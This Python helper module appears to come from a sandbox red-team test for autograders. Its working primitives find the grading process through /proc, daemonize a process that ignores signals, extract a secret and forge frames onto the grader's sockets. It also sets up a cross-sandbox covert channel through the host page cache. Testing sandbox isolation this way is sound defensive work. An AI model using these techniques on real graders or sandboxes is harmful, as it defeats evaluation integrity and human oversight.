# Helpers inserted (after `_ATTACK = {...}`) at the top of every attack's exercise file.
# Standard library only: ex1 and ex3 run where only NumPy can be imported.
import os as _atk_os
import sys as _atk_sys


def _atk_win(what):
    """Evidence that the attack got somewhere: it must never reach any output."""
    raise RuntimeError(f"{_ATTACK['marker']}:WIN:{what}")


def _atk_read(path, limit=1 << 20):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit)
    except OSError:
        return b""


def _atk_cmdline(pid):
    return _atk_read(f"/proc/{pid}/cmdline").replace(b"\0", b" ").decode(errors="replace")


def _atk_ppid(pid):
    stat = _atk_read(f"/proc/{pid}/stat").decode(errors="replace")
    try:
        return int(stat.rsplit(")", 1)[1].split()[1])
    except (IndexError, ValueError):
        return 0


def _atk_ancestors(pid=None):
    """[(pid, cmdline)] from the parent of ``pid`` up to the top of what this /proc shows."""
    out, pid = [], pid or _atk_os.getpid()
    for _ in range(16):
        pid = _atk_ppid(pid)
        if pid <= 0:
            break
        out.append((pid, _atk_cmdline(pid)))
    return out


def _atk_owned(pid):
    """True only for processes the test started (an ancestor's command line holds the campaign id).

    Attacks that signal or trace other processes only ever touch these, so even a
    successful attack never harms anything but the test's own grader.
    """
    if _ATTACK["campaign"] in _atk_cmdline(pid):
        return True
    return any(_ATTACK["campaign"] in line for _, line in _atk_ancestors(pid))


def _atk_grader():
    """The grading process above this worker (the parent of the zygote; `nbgrader autograde` in the notebook
    channel), if this sandbox can see it."""
    for pid, line in _atk_ancestors():
        if pid != 1 and ("autograder" in line or "multiprocessing" in line or "nbgrader" in line) \
                and "zygote" not in line \
                and _atk_owned(pid):
            return pid
    return 0


def _atk_zygotes():
    # pid 1 is this submission's own init inside a PID namespace: killing it is self-harm, not an escape
    return [pid for pid, line in _atk_ancestors() if pid != 1 and "zygote" in line and _atk_owned(pid)]


def _atk_name_process():
    """Put the marker in this process's name (comm), so the test can find it."""
    try:
        import ctypes

        ctypes.CDLL(None).prctl(15, _ATTACK["marker"].encode()[:15], 0, 0, 0)
    except Exception:
        pass


def _atk_daemon(body, seconds=20.0):
    """Double fork + setsid; the grandchild runs ``body(deadline)`` for at most ``seconds``."""
    import time

    try:
        pid = _atk_os.fork()
    except OSError:
        return False
    if pid:
        try:
            _atk_os.waitpid(pid, 0)
        except OSError:
            pass
        return True
    try:
        _atk_os.setsid()
        if _atk_os.fork():
            _atk_os._exit(0)
        _atk_name_process()
        for number in (1, 2, 15):
            try:
                import signal

                signal.signal(number, signal.SIG_IGN)
            except Exception:
                pass
        body(time.monotonic() + seconds)
    except BaseException:
        pass
    finally:
        _atk_os._exit(0)


def _atk_find_secret(data):
    """The value of the test's secret in ``data`` (bytes), or ''."""
    key = _ATTACK["secret_name"].encode() + b"="
    at = data.find(key)
    if at < 0:
        return ""
    end = at + len(key)
    value = data[end:end + 80].split(b"\0")[0].split(b"\n")[0]
    return value.decode(errors="replace")


def _atk_send_raw(payload):
    """Write one length-prefixed frame straight to every socket this process holds (the grader's)."""
    import stat
    import struct
    sent = 0
    for fd in range(3, 256):
        try:
            if not stat.S_ISSOCK(_atk_os.fstat(fd).st_mode):
                continue
            view = memoryview(struct.pack("!I", len(payload)) + payload)
            while len(view):
                view = view[_atk_os.write(fd, view):]
            sent += 1
        except OSError:
            pass
    return sent


def _atk_pc_file():
    """A library file both NumPy-only sandboxes can read and nothing else reads: the page cache is the host's."""
    import glob
    here = _atk_os.path.dirname(_atk_os.__file__)
    found = glob.glob(_atk_os.path.join(here, "ensurepip", "_bundled", "*.whl")) + [
        _atk_os.path.join(here, "pydoc_data", "topics.py")]
    return max((p for p in found if _atk_os.path.isfile(p)), key=_atk_os.path.getsize, default="")


def _atk_pc_bits(value):
    import struct
    raw = (0xA5C3).to_bytes(2, "little") + struct.pack("<d", value)
    return [(byte >> k) & 1 for byte in raw for k in range(8)]


def _atk_pc_write(value):
    """Write a float into the page cache: every page evicted, then one page of each pair touched per bit."""
    path = _atk_pc_file()
    try:
        fd = _atk_os.open(path, _atk_os.O_RDONLY)
    except OSError:
        return
    try:
        _atk_os.posix_fadvise(fd, 0, 0, _atk_os.POSIX_FADV_RANDOM)  # (no read-ahead: one page per read)
        _atk_os.posix_fadvise(fd, 0, 0, _atk_os.POSIX_FADV_DONTNEED)
        for index, bit in enumerate(_atk_pc_bits(value)):
            _atk_os.pread(fd, 1, (8 + 2 * index + (0 if bit else 1)) * 4096)
    except OSError:
        pass
    finally:
        _atk_os.close(fd)


def _atk_pc_read():
    """The float another sandbox left in the page cache (preadv with RWF_NOWAIT: cached or not), else None."""
    import struct
    path = _atk_pc_file()
    try:
        fd = _atk_os.open(path, _atk_os.O_RDONLY)
    except OSError:
        return None
    buf = bytearray(1)

    def cached(page):
        try:
            _atk_os.preadv(fd, [buf], page * 4096, _atk_os.RWF_NOWAIT)
            return True
        except BlockingIOError:
            return False

    try:
        _atk_os.posix_fadvise(fd, 0, 0, _atk_os.POSIX_FADV_RANDOM)
        bits = []
        for index in range(80):
            one, zero = cached(8 + 2 * index), cached(8 + 2 * index + 1)
            if one == zero:
                return None
            bits.append(1 if one else 0)
    except OSError:
        return None
    finally:
        _atk_os.close(fd)
    raw = bytes(sum(bits[8 * j + k] << k for k in range(8)) for j in range(10))
    if raw[:2] != (0xA5C3).to_bytes(2, "little"):
        return None
    return struct.unpack("<d", raw[2:])[0]
